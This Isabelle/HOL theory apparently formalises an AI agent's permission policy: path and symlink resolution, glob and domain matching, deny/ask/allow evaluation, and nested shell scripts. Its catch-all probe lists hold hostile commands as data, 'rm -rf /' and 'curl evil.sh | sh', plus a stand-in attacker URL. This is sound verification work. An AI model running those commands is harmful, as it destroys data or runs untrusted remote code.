(* ===== verification/Perm_Policy.thy ===== *)
theory Perm_Policy
  imports Perm_Bash
begin

text \<open>
  \<open>permission/policy.rs\<close>: the managed permission policy.  \<open>perm_env\<close> holds what the policy asks of
  code outside the repository: the shell parser, the \<open>glob\<close>, \<open>url\<close> and \<open>shellexpand\<close> crates, the
  Unicode tables of \<open>to_lowercase\<close> and the file system as it is during one request.  Paths are Unix
  paths; a path rebuilt from its components is spelled without empty and \<open>.\<close> components.
\<close>

datatype fs_meta = MetaNotFound | MetaError | MetaFile bool \<comment> \<open>is a symbolic link\<close>

record perm_env =
  pe_parse :: "string \<Rightarrow> ts_tree option"
  pe_glob_valid :: "string \<Rightarrow> bool"
  pe_glob :: "string \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> bool" \<comment> \<open>pattern, literal separators, text\<close>
  pe_url :: "string \<Rightarrow> (string option \<times> string) option" \<comment> \<open>host and path\<close>
  pe_lowercase :: "string \<Rightarrow> string"
  pe_tilde :: "string \<Rightarrow> string"
  pe_canonicalize :: "string \<Rightarrow> string option"
  pe_symlink_meta :: "string \<Rightarrow> fs_meta"
  pe_read_link :: "string \<Rightarrow> string option"

section \<open>Paths\<close>

fun component_text :: "component \<Rightarrow> string" where
  "component_text RootDir = ''/''"
| "component_text CurDir = ''.''"
| "component_text ParentDir = ''..''"
| "component_text (Normal s) = s"

definition path_of :: "component list \<Rightarrow> string" where
  "path_of cs = foldl path_join [] (map component_text cs)"

definition is_absolute :: "string \<Rightarrow> bool" where
  "is_absolute p \<longleftrightarrow> prefix ''/'' p"

definition path_parent :: "string \<Rightarrow> string option" where
  "path_parent p =
     (let cs = components p in if cs = [] \<or> last cs = RootDir then None else Some (path_of (butlast cs)))"

definition path_strip_prefix :: "string \<Rightarrow> string \<Rightarrow> string option" where
  "path_strip_prefix p base =
     (if path_starts_with p base then Some (path_of (drop (length (components base)) (components p))) else None)"

fun push_component :: "component list \<Rightarrow> component \<Rightarrow> component list" where
  "push_component cs CurDir = cs"
| "push_component cs ParentDir =
     (case rev cs of Normal _ # _ \<Rightarrow> butlast cs | RootDir # _ \<Rightarrow> cs | _ \<Rightarrow> cs @ [ParentDir])"
| "push_component cs c = cs @ [c]"

definition normalize_lexically :: "string \<Rightarrow> string" where
  "normalize_lexically p =
     (let cs = foldl push_component [] (components p) in if cs = [] then ''.'' else path_of cs)"

definition quote_char :: "char \<Rightarrow> bool" where
  "quote_char c \<longleftrightarrow> c = CHR 0x22 \<or> c = CHR 0x27"

text \<open>A trailing two-character escape \<open>\\n\<close>, \<open>\\r\<close> or \<open>\\t\<close> with the blanks before it.\<close>

function strip_escapes :: "string \<Rightarrow> string" where
  "strip_escapes s =
     (if length s \<ge> 2 \<and> s ! (length s - 2) = bslash \<and> last s \<in> {CHR ''n'', CHR ''r'', CHR ''t''}
      then strip_escapes (trim_end (take (length s - 2) s)) else s)"
  by pat_completeness auto
termination
proof (relation "measure length")
  show "(trim_end (take (length s - 2) s), s) \<in> measure length"
    if "2 \<le> length s \<and> s ! (length s - 2) = bslash \<and> last s \<in> {CHR ''n'', CHR ''r'', CHR ''t''}" for s
  proof -
    have "length (trim_end (take (length s - 2) s)) \<le> length (take (length s - 2) s)"
      using suffix_length_le [OF strip_by_suffix, of ws_suffix_rev "rev (take (length s - 2) s)"]
      by (simp add: trim_end_def)
    with that show ?thesis by auto
  qed
qed simp

declare strip_escapes.simps [simp del]

definition sanitize_model_path_arg :: "string \<Rightarrow> string" where
  "sanitize_model_path_arg input =
     (let trimmed = trim input;
          quote_wrapped = (length trimmed \<ge> 2 \<and> quote_char (hd trimmed) \<and> quote_char (last trimmed));
          unquoted = trim (trim_pred quote_char trimmed)
      in if quote_wrapped then strip_escapes unquoted else unquoted)"

definition resolve_model_path :: "perm_env \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> string \<Rightarrow> string" where
  "resolve_model_path e cwd display_cwd input =
    (let expanded = pe_tilde e (sanitize_model_path_arg input);
         base = (case display_cwd of Some d \<Rightarrow> d | None \<Rightarrow> cwd)
     in if display_cwd \<noteq> None \<and> is_absolute expanded
        then (case path_strip_prefix expanded base of Some suf \<Rightarrow> path_join cwd suf | None \<Rightarrow> expanded)
        else case (if \<not> is_absolute expanded \<and> expanded \<noteq> [] then path_strip_prefix (CHR ''/'' # expanded) base else None) of
          Some suf \<Rightarrow> path_join cwd suf
        | None \<Rightarrow> path_join cwd expanded)"

text \<open>
  \<open>walk\<close> of \<open>resolve_following_symlinks\<close>: the number is what is left of \<open>MAX_SYMLINK_DEPTH\<close>, 41
  calls deep.  \<open>None\<close> is a cycle, an unreadable link or a metadata error.
\<close>

primrec walk_symlinks :: "nat \<Rightarrow> perm_env \<Rightarrow> string \<Rightarrow> string option" where
  "walk_symlinks 0 e p = None"
| "walk_symlinks (Suc n) e p =
     (case pe_canonicalize e p of
        Some canonical \<Rightarrow> Some canonical
      | None \<Rightarrow>
          (case (path_parent p, file_name p) of
             (Some parent, Some name) \<Rightarrow>
               (case walk_symlinks n e parent of
                  None \<Rightarrow> None
                | Some resolved \<Rightarrow>
                    let candidate = path_join resolved name
                    in (case pe_symlink_meta e candidate of
                          MetaError \<Rightarrow> None
                        | MetaFile True \<Rightarrow>
                            (case pe_read_link e candidate of
                               None \<Rightarrow> None
                             | Some target \<Rightarrow> walk_symlinks n e (path_join resolved target))
                        | _ \<Rightarrow> Some candidate))
           | _ \<Rightarrow> None))"

definition resolve_following_symlinks :: "perm_env \<Rightarrow> string \<Rightarrow> string option" where
  "resolve_following_symlinks e p = walk_symlinks 41 e p"

definition is_symlink :: "perm_env \<Rightarrow> string \<Rightarrow> bool" where
  "is_symlink e p \<longleftrightarrow> pe_symlink_meta e p = MetaFile True"

definition path_has_symlink :: "perm_env \<Rightarrow> string \<Rightarrow> bool" where
  "path_has_symlink e p \<longleftrightarrow>
     (let cs = components p in list_ex (\<lambda>i. is_symlink e (path_of (take (Suc i) cs))) [0..<length cs])"

definition path_spellings :: "string \<Rightarrow> string option \<Rightarrow> string list" where
  "path_spellings p root =
     p # (case Option.bind root (path_strip_prefix p) of
            None \<Rightarrow> []
          | Some rel \<Rightarrow> if rel = [] then [''.'', ''./''] else [''./'' @ rel, rel])"

section \<open>Matching\<close>

definition normalize_domain :: "perm_env \<Rightarrow> string \<Rightarrow> string" where
  "normalize_domain e raw =
     (let s = trim_end_pred (\<lambda>c. c = CHR ''.'') (trim_end_pred (\<lambda>c. c = CHR ''/'') (trim raw))
      in pe_lowercase e (case strip_prefix_str ''www.'' s of Some r \<Rightarrow> r | None \<Rightarrow> s))"

definition domain_matches :: "perm_env \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "domain_matches e pat url =
     (case pe_url e url of
        Some (Some host, _) \<Rightarrow>
          let domain = normalize_domain e host; np = normalize_domain e pat
          in domain = np \<or> suffix (CHR ''.'' # np) domain
      | _ \<Rightarrow> False)"

datatype match_context = PathContext | Freeform

text \<open>A compiled matcher is the pattern it was compiled from.\<close>

fun glob_matches :: "perm_env \<Rightarrow> string \<Rightarrow> match_context \<Rightarrow> string option \<Rightarrow> bool" where
  "glob_matches e text ctx None = False"
| "glob_matches e text ctx (Some pat) = pe_glob e pat (ctx = PathContext) text"

definition compile_matcher :: "perm_env \<Rightarrow> permission_rule \<Rightarrow> string option" where
  "compile_matcher e r =
     (case pr_pattern r of Some p \<Rightarrow> if p \<noteq> ''*'' \<and> pe_glob_valid e p then Some p else None | None \<Rightarrow> None)"

fun tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches _ ForAny = True"
| "tool_filter_matches a ForBash = (case a of AccBash _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a ForEdit = (case a of AccEdit _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a ForRead = (case a of AccRead _ \<Rightarrow> True | AccGrep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a ForGrep = (case a of AccGrep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a ForMcp = (case a of AccMCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a ForWebFetch = (case a of AccWebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a ForWebSearch = (case a of AccWebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)"

definition pattern_matches :: "perm_env \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> string option \<Rightarrow> bool" where
  "pattern_matches e access r matcher =
    (case pr_pattern r of
       None \<Rightarrow> True
     | Some pat \<Rightarrow>
         pat = ''*'' \<or>
         (case access of
            AccBash cmd \<Rightarrow> prefix pat (trim_start cmd) \<or> glob_matches e (trim_start cmd) Freeform matcher
          | AccEdit path \<Rightarrow> glob_matches e path PathContext matcher
          | AccRead (Some p) \<Rightarrow> glob_matches e p PathContext matcher
          | AccRead None \<Rightarrow> False
          | AccGrep (Some p) _ \<Rightarrow> glob_matches e p PathContext matcher
          | AccGrep None _ \<Rightarrow> False
          | AccMCPTool name _ \<Rightarrow> glob_matches e name Freeform matcher
          | AccWebFetch url \<Rightarrow>
              (case pr_pattern_mode r of
                 DomainMode \<Rightarrow> domain_matches e pat url
               | GlobMode \<Rightarrow> glob_matches e url Freeform matcher)
          | AccWebSearch query \<Rightarrow> glob_matches e query Freeform matcher \<or> prefix pat query))"

section \<open>The compiled policy\<close>

record compiled_policy =
  cp_config :: permission_config
  cp_matchers :: "string option list"
  cp_has_file_restrictions :: bool
  cp_has_bash_command_restrictions :: bool

definition restricts :: "permission_rule \<Rightarrow> bool" where
  "restricts r \<longleftrightarrow> pr_action r = ActDeny \<or> pr_action r = ActAsk"

definition compiled_policy_new :: "perm_env \<Rightarrow> permission_config \<Rightarrow> compiled_policy" where
  "compiled_policy_new e config =
     \<lparr>cp_config = config,
      cp_matchers = map (compile_matcher e) (pc_rules config),
      cp_has_file_restrictions = list_ex (\<lambda>r. restricts r \<and> pr_tool r \<in> {ForRead, ForEdit, ForAny}) (pc_rules config),
      cp_has_bash_command_restrictions = list_ex (\<lambda>r. restricts r \<and> pr_tool r \<in> {ForBash, ForAny}) (pc_rules config)\<rparr>"

fun tool_label :: "tool_filter \<Rightarrow> string" where
  "tool_label ForAny = ''any tool''"
| "tool_label ForBash = ''bash''"
| "tool_label ForEdit = ''edit''"
| "tool_label ForRead = ''read''"
| "tool_label ForGrep = ''grep''"
| "tool_label ForMcp = ''mcp''"
| "tool_label ForWebFetch = ''web_fetch''"
| "tool_label ForWebSearch = ''web_search''"

definition deny_reason :: "permission_rule \<Rightarrow> string" where
  "deny_reason r =
     ''Denied by permission policy: deny rule on '' @ tool_label (pr_tool r)
     @ (case pr_pattern r of Some p \<Rightarrow> '' matching '' @ [CHR 0x22] @ p @ [CHR 0x22] | None \<Rightarrow> [])"

fun evaluate_rules :: "perm_env \<Rightarrow> access_kind \<Rightarrow> (permission_rule \<times> string option) list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> decision option" where
  "evaluate_rules e access [] matched_ask matched_allow =
     (if matched_ask then Some Ask else if matched_allow then Some Allow else None)"
| "evaluate_rules e access ((r, matcher) # rs) matched_ask matched_allow =
     (if \<not> tool_filter_matches access (pr_tool r) \<or> \<not> pattern_matches e access r matcher
      then evaluate_rules e access rs matched_ask matched_allow
      else case pr_action r of
        ActDeny \<Rightarrow> Some (Reject (deny_reason r))
      | ActAsk \<Rightarrow> evaluate_rules e access rs True matched_allow
      | ActAllow \<Rightarrow> evaluate_rules e access rs matched_ask True)"

definition policy_evaluate :: "perm_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> decision option" where
  "policy_evaluate e p access = evaluate_rules e access (zip (pc_rules (cp_config p)) (cp_matchers p)) False False"

text \<open>Only what restricts: an allow is dropped.\<close>

definition escalate :: "perm_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> decision option" where
  "escalate e p access = (case policy_evaluate e p access of Some Allow \<Rightarrow> None | d \<Rightarrow> d)"

subsection \<open>Shell commands\<close>

fun first_operand :: "string list \<Rightarrow> string option" where
  "first_operand [] = None"
| "first_operand (w # ws) =
     (if w = ''--'' \<or> w = ''-'' then (case ws of [] \<Rightarrow> None | x # _ \<Rightarrow> Some x)
      else if \<not> prefix ''-'' w then Some w
      else first_operand ws)"

definition shell_dash_c_script :: "string list \<Rightarrow> string option" where
  "shell_dash_c_script ws =
     (if ws = [] \<or> base_name (hd ws) \<notin> {''bash'', ''sh'', ''dash'', ''zsh'', ''ksh''} then None
      else case dropWhile (\<lambda>w. \<not> (prefix ''-'' w \<and> \<not> prefix ''--'' w \<and> CHR ''c'' \<in> set w)) (tl ws) of
        [] \<Rightarrow> None
      | _ # rest \<Rightarrow> first_operand rest)"

definition segment_forms :: "string list \<Rightarrow> string list list" where
  "segment_forms raw_words =
     (let unwrapped = unwrap_wrappers raw_words
      in raw_words # (if length unwrapped \<noteq> length raw_words then [unwrapped] else []))"

text \<open>The number is what is left of the nesting limit of eight.\<close>

primrec evaluate_bash_command_segments :: "nat \<Rightarrow> perm_env \<Rightarrow> compiled_policy \<Rightarrow> string \<Rightarrow> decision option" where
  "evaluate_bash_command_segments 0 e p cmd = Some Ask"
| "evaluate_bash_command_segments (Suc n) e p cmd =
     (case all_commands_from_script (pe_parse e) cmd of
        None \<Rightarrow> Some Ask
      | Some segments \<Rightarrow>
          foldl (\<lambda>d ws.
              let d1 = combine_decisions d (escalate e p (AccBash (join '' '' ws)))
              in (case shell_dash_c_script ws of
                    Some inner \<Rightarrow> combine_decisions d1 (evaluate_bash_command_segments n e p inner)
                  | None \<Rightarrow> d1))
            None (concat (map (\<lambda>c. segment_forms (pl_words c)) segments)))"

definition evaluate_bash_command_policy :: "perm_env \<Rightarrow> compiled_policy \<Rightarrow> string \<Rightarrow> decision option" where
  "evaluate_bash_command_policy e p cmd =
     (if cp_has_bash_command_restrictions p then evaluate_bash_command_segments 8 e p cmd else None)"

subsection \<open>Files\<close>

fun native_file_path :: "access_kind \<Rightarrow> string option" where
  "native_file_path (AccEdit path) = Some path"
| "native_file_path (AccRead (Some path)) = Some path"
| "native_file_path (AccGrep (Some path) _) = Some path"
| "native_file_path _ = None"

fun access_with_path :: "access_kind \<Rightarrow> string \<Rightarrow> access_kind" where
  "access_with_path (AccEdit _) path = AccEdit path"
| "access_with_path (AccRead _) path = AccRead (Some path)"
| "access_with_path (AccGrep _ g) path = AccGrep (Some path) g"
| "access_with_path a path = a" \<comment> \<open>unreachable: the caller has a native file path\<close>

definition native_path_restrictions_apply :: "compiled_policy \<Rightarrow> access_kind \<Rightarrow> bool" where
  "native_path_restrictions_apply p access =
     list_ex (\<lambda>r. restricts r \<and> tool_filter_matches access (pr_tool r)) (pc_rules (cp_config p))"

definition evaluate_with_cwd ::
  "perm_env \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> decision option \<times> bool" where
  "evaluate_with_cwd e p access cwd display_cwd =
    (let lexical = policy_evaluate e p access
     in case native_file_path access of
          None \<Rightarrow> (lexical, False)
        | Some path \<Rightarrow>
            let opened = resolve_model_path e cwd display_cwd path;
                written = path_spellings (normalize_lexically opened) (Some (normalize_lexically cwd));
                on_disk = resolve_following_symlinks e opened;
                spellings = written @ (case on_disk of Some d \<Rightarrow> path_spellings d (pe_canonicalize e cwd) | None \<Rightarrow> []);
                unresolved_link = (on_disk = None \<and> path_has_symlink e opened \<and> native_path_restrictions_apply p access);
                escalation = foldl (\<lambda>acc s. combine_decisions acc (escalate e p (access_with_path access s))) None spellings;
                escalation' = (if unresolved_link then combine_decisions escalation (Some Ask) else escalation)
            in (combine_decisions lexical escalation', unresolved_link))"

subsection \<open>Catch-all rules\<close>

definition bash_probes :: "access_kind list" where
  "bash_probes = map AccBash [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "access_kind list" where
  "mcp_probes = map (\<lambda>n. AccMCPTool n None) [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes = map AccWebFetch
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'', ''ftp://files.example.org/p'']"

definition rule_is_catchall :: "perm_env \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall e r =
    (let opens_all = list_all (\<lambda>a. pattern_matches e a r (compile_matcher e r))
     in case pr_tool r of
          ForBash \<Rightarrow> opens_all bash_probes
        | ForMcp \<Rightarrow> opens_all mcp_probes
        | ForWebFetch \<Rightarrow> opens_all webfetch_probes
        | ForAny \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes
        | _ \<Rightarrow> False)"

end
